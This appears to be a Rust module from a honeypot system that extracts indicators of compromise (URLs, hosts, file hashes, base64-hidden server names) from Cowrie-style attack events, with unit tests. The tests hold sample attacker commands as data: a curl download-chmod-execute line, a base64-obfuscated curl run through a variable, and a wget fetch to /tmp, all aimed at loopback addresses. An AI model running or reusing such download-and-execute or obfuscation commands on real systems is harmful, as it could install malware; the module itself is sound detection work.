//! Which parts of an attack event are searched, and what is reported of them.

use crate::extract::{self, Indicator, Type, add};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Map, Value, json};
use std::fmt;

/// Details that hold free text: Cowrie's, and those of Cyber Mirage's own sensors.
const TEXT_FIELDS: &[&str] = &["input", "command", "url", "data"];
/// Details that hold exactly one host.
const HOST_FIELDS: &[(&str, &str)] = &[("tunnel_request", "dst_ip")];
/// Details that hold exactly one hash of a file. Fingerprints of clients (`hassh`, `ja4h`) are not hashes of files.
const HASH_FIELDS: &[&str] = &["shasum", "sha256", "sha1", "md5"];
/// These repeat a command that the action `command` has already told.
const ECHOES: &[&str] = &["command_failed", "command_found"];
/// After one of these nobody is a passer-by, so the attacker's own address is an indicator. A failed login or a lone
/// connection is not among them (a mistyped address does that much), nor is `command`, whose session logged in before.
const HOSTILE: &[&str] = &["login_success", "password_change", "file_download", "file_upload", "tunnel_request"];

/// One indicator, ready to be sent.
#[derive(Debug, PartialEq)]
pub struct Report {
    pub payload: Value,
    pub value: String,
}

/// Why a payload is not an attack event.
#[derive(Debug, PartialEq)]
pub enum Rejected {
    Unreadable(String),
    NotAnObject,
    NoAction,
}

impl fmt::Display for Rejected {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Rejected::Unreadable(why) => write!(formatter, "the payload cannot be read as JSON: {why}"),
            Rejected::NotAnObject => formatter.write_str("the payload is not a JSON object"),
            Rejected::NoAction => formatter.write_str("the attack has no action that is a text"),
        }
    }
}

/// The indicators of one attack event, each once; often none.
///
/// `entry_timestamp` stands in for an attack that carries no time of its own.
///
/// # Errors
///
/// A `Rejected`: the payload will not become an attack by trying again.
pub fn of_attack(payload: &str, entry_timestamp: &str) -> Result<Vec<Report>, Rejected> {
    let value: Value = serde_json::from_str(payload).map_err(|error| Rejected::Unreadable(error.to_string()))?;
    let attack = value.as_object().ok_or(Rejected::NotAnObject)?;
    let action = text(attack, "action").ok_or(Rejected::NoAction)?;
    let attacker_ip = text(attack, "attacker_ip").unwrap_or("unknown");

    let mut found = Vec::new();
    if let Some(details) = attack.get("details").and_then(Value::as_object) {
        in_details(action, details, &mut found);
    }
    if HOSTILE.contains(&action)
        && let Some(own) = extract::host(attacker_ip, attacker_ip)
    {
        add(&mut found, own);
    }

    let context = json!({
        "action": action,
        "session_id": text(attack, "session_id").unwrap_or("unknown"),
        "attacker_ip": attacker_ip,
    });
    let timestamp = text(attack, "timestamp").unwrap_or(entry_timestamp);
    Ok(found.into_iter().map(|indicator| report(indicator, &context, timestamp)).collect())
}

fn in_details(action: &str, details: &Map<String, Value>, found: &mut Vec<Indicator>) {
    if ECHOES.contains(&action) {
        return;
    }
    for text in TEXT_FIELDS.iter().filter_map(|field| text(details, field)) {
        in_text(text, found);
    }
    for value in HASH_FIELDS.iter().filter_map(|field| text(details, field)) {
        if let Some(indicator) = extract::hash(value) {
            add(found, indicator);
        }
    }
    for (of_action, field) in HOST_FIELDS {
        if *of_action == action
            && let Some(indicator) = text(details, field).and_then(|host| extract::host(host, host))
        {
            add(found, indicator);
        }
    }
}

/// Also looks into base64 that is decoded on the spot, a usual way to hide a server's name.
fn in_text(text: &str, found: &mut Vec<Indicator>) {
    /// Below this nothing fits in that would be an indicator.
    const ENCODED_BYTES_MIN: usize = 12;
    for indicator in extract::indicators(text) {
        add(found, indicator);
    }
    if !text.contains("base64") {
        return;
    }
    let is_encoded = |byte: char| byte.is_ascii_alphanumeric() || matches!(byte, '+' | '/' | '=');
    for word in text.split(|character| !is_encoded(character)).filter(|word| word.len() >= ENCODED_BYTES_MIN) {
        let Ok(Ok(decoded)) = STANDARD.decode(word).map(String::from_utf8) else {
            continue;
        };
        for mut indicator in extract::indicators(&decoded) {
            indicator.as_seen = word.to_string();
            add(found, indicator);
        }
    }
}

fn report(indicator: Indicator, context: &Value, timestamp: &str) -> Report {
    let Indicator { kind, value, as_seen, scope } = indicator;
    let payload = json!({
        "event_type": "indicator",
        "type": Type::name(kind),
        "value": value,
        "as_seen": as_seen,
        "scope": scope,
        "context": context,
        "timestamp": timestamp,
    });
    Report { payload, value }
}

fn text<'a>(object: &'a Map<String, Value>, name: &str) -> Option<&'a str> {
    object.get(name).and_then(Value::as_str)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reports(action: &str, details: Value) -> Vec<Report> {
        let payload = json!({
            "event_type": "attack", "attacker_ip": "127.10.5.23", "service": "SSH", "action": action,
            "session_id": "8726a0ab7e32", "timestamp": "2026-11-23T07:27:27.979798Z", "details": details,
        });
        of_attack(&payload.to_string(), "").unwrap()
    }

    fn values(reports: &[Report]) -> Vec<&str> {
        reports.iter().map(|report| report.value.as_str()).collect()
    }

    #[test]
    fn a_real_command_gives_its_url_and_its_server() {
        let reports =
            reports("command", json!({"input": "curl -O http://127.0.0.1:8099/x86_64; chmod +x x86_64; ./x86_64"}));
        assert_eq!(values(&reports), ["http://127.0.0.1:8099/x86_64", "127.0.0.1"]);
        assert_eq!(
            reports[0].payload,
            json!({
                "event_type": "indicator", "type": "url", "value": "http://127.0.0.1:8099/x86_64",
                "as_seen": "http://127.0.0.1:8099/x86_64", "scope": "loopback",
                "context": {"action": "command", "session_id": "8726a0ab7e32", "attacker_ip": "127.10.5.23"},
                "timestamp": "2026-11-23T07:27:27.979798Z"
            })
        );
    }

    #[test]
    fn base64_is_looked_into() {
        let reports = reports("command", json!({"input": "export X=$(echo Y3VybCAxMjcuMC4wLjE= | base64 -d); $X"}));
        assert_eq!(values(&reports), ["127.0.0.1"]);
        assert_eq!(reports[0].payload["as_seen"], "Y3VybCAxMjcuMC4wLjE=");
    }

    #[test]
    fn a_file_gives_its_hash_and_the_attacker() {
        let sha256 = "9c96345e6340c8a4eb2f2b77f40f8037fce3e7e10c69e2cdffe9e37a10e34be9";
        let reports =
            reports("file_download", json!({"shasum": sha256, "destfile": "/tmp/c", "outfile": format!("d/{sha256}")}));
        assert_eq!(values(&reports), [sha256, "127.10.5.23"]);
        assert_eq!(reports[0].payload["scope"], "file");
    }

    #[test]
    fn the_attacker_is_an_indicator_only_after_something_hostile() {
        assert_eq!(values(&reports("login_success", json!({"username": "root"}))), ["127.10.5.23"]);
        assert_eq!(values(&reports("tunnel_request", json!({"dst_ip": "ya.ru"}))), ["ya.ru", "127.10.5.23"]);
        for action in ["login_failed", "connect", "command", "other"] {
            assert!(reports(action, json!({})).is_empty(), "{action}");
        }
    }

    #[test]
    fn an_echo_of_a_command_is_not_counted_twice() {
        assert!(reports("command_found", json!({"input": "wget -q http://127.0.0.1:8099/m -O /tmp/m"})).is_empty());
    }

    #[test]
    fn odd_attacks_are_survived() {
        for details in [json!(null), json!(7), json!({"input": ["http://a.com"]}), json!({"input": "", "shasum": 5})] {
            assert!(reports("command", details).is_empty());
        }
        assert!(reports("command", json!({"input": "A".repeat(18_000)})).is_empty());
        assert!(of_attack(r#"{"action":"login_success"}"#, "").unwrap().is_empty());
    }

    #[test]
    fn what_is_no_attack_is_rejected_with_its_reason() {
        let deep = format!("{{\"details\":{}", "[".repeat(10_000));
        for (payload, reason) in [
            ("", "cannot be read"),
            (deep.as_str(), "recursion limit"),
            ("[]", "not a JSON object"),
            ("{}", "no action"),
        ] {
            let rejected = of_attack(payload, "").unwrap_err().to_string();
            assert!(rejected.contains(reason), "{rejected}");
        }
    }
}
